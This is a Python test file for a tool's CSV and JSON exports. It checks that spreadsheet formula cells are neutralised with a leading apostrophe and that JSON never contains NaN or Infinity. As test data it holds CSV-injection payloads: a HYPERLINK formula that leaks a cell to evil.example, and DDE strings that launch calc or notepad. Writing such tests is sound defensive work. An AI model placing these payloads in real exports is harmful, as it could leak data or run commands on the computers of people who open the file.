"""Exports other programs open: CSV cells never start a spreadsheet formula, JSON is standard JSON
(no NaN/Infinity) — for the run/session CSV and JSON (``tfcompare run/export``, the window's Export
actions) and the capacity CSV/JSON alike."""

from __future__ import annotations

import csv
import io
import json
import math
from dataclasses import replace

import pytest
from cli_inprocess import run_tfcompare
from crafted_sweeps import sweep_result
from session_results import make_result

from tfcompare.runner.run_formats import csv_text, write_json
from tfcompare.serving.answers import Prediction
from tfcompare.session import load_session, save_session

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "image": '=HYPERLINK("http://evil.example/?leak="&A1,"click").png',
    "backend": "@SUM(1+1)*cmd|' /C calc'!A0",
    "error": "+1+cmd|' /C notepad'!A0",
    "label": "-2+3+cmd|' /C calc'!A0",
    "pod": "\t=1+1",
    "label2": "\r=1+1",
}


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), repr(cell)


def hostile_result():
    result = make_result(1)
    requests = []
    for r in result.requests:
        requests.append(
            replace(
                r,
                image=HOSTILE["image"],
                backend=HOSTILE["backend"],
                pod=HOSTILE["pod"],
                error=HOSTILE["error"] if not r.ok else None,
                top5=(Prediction(HOSTILE["label"], -1.5), Prediction(HOSTILE["label2"], -2.0)),
            )
        )
    return replace(result, requests=tuple(requests))


def test_run_csv_neutralises_formula_cells_in_one_place():
    result = hostile_result()
    rows = list(csv.reader(io.StringIO(csv_text(result))))
    header, body = rows[0], rows[1:]
    assert_no_formula(rows)
    first = dict(zip(header, body[0], strict=True))
    assert first["image"] == "'" + HOSTILE["image"]  # shown as the text it is
    assert first["backend"] == "'" + HOSTILE["backend"]
    assert first["top1"] == "'" + HOSTILE["label"]
    assert first["pod"] == "'" + HOSTILE["pod"]
    assert first["top1_score"] == "-1.5"  # numbers stay numbers
    assert any(
        dict(zip(header, row, strict=True))["error"] == "'" + HOSTILE["error"] for row in body
    )


def test_export_command_writes_safe_csv(tmp_path):
    session = tmp_path / "s.tfcs"
    save_session(session, hostile_result())
    out = tmp_path / "out.csv"
    proc = run_tfcompare("export", session, "--csv", out)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) > 1
    assert_no_formula(rows)


def test_capacity_csv_and_json_are_safe(tmp_path):
    from tfcompare.load.capacity_formats import write_csv, write_json

    result = sweep_result({"=cmd|' /C calc'!A0": (100, 200, 400)})
    write_csv(result, tmp_path / "c.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "c.csv").read_text())))
    assert_no_formula(rows)
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    result.started_at = float("nan")
    write_json(result, tmp_path / "c.json")
    json.loads((tmp_path / "c.json").read_text(), parse_constant=_refuse)


def _refuse(name):
    raise AssertionError(f"non-standard JSON constant {name}")


def test_json_export_is_standard_json_and_nan_scores_survive_a_session(tmp_path):
    """A model that answers NaN: the session stores null and reopens; JSON says null, never NaN."""
    result = make_result(1)
    nan_top5 = (Prediction("tabby", float("nan")), Prediction("tiger", float("inf")))
    result = replace(
        result,
        requests=tuple(replace(r, top5=nan_top5) for r in result.requests),
        started_at=float("nan"),
    )
    write_json(result, tmp_path / "run.json")
    doc = json.loads((tmp_path / "run.json").read_text(), parse_constant=_refuse)
    assert doc["started_at"] is None and doc["requests"][0]["top5"][0] == ["tabby", None]
    save_session(tmp_path / "s.tfcs", result)
    saved = load_session(tmp_path / "s.tfcs")
    assert math.isnan(saved.result.requests[0].top5[0].score)
    write_json(saved.result, tmp_path / "again.json")
    json.loads((tmp_path / "again.json").read_text(), parse_constant=_refuse)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-1.5", "-1.5"),
        ("-inf", "'-inf"),
        ("+41 22", "'+41 22"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("@A1", "'@A1"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_cell(cell, written):
    from tfcompare.tabular import safe_cell

    assert safe_cell(cell) == written
    assert safe_cell(-3) == -3
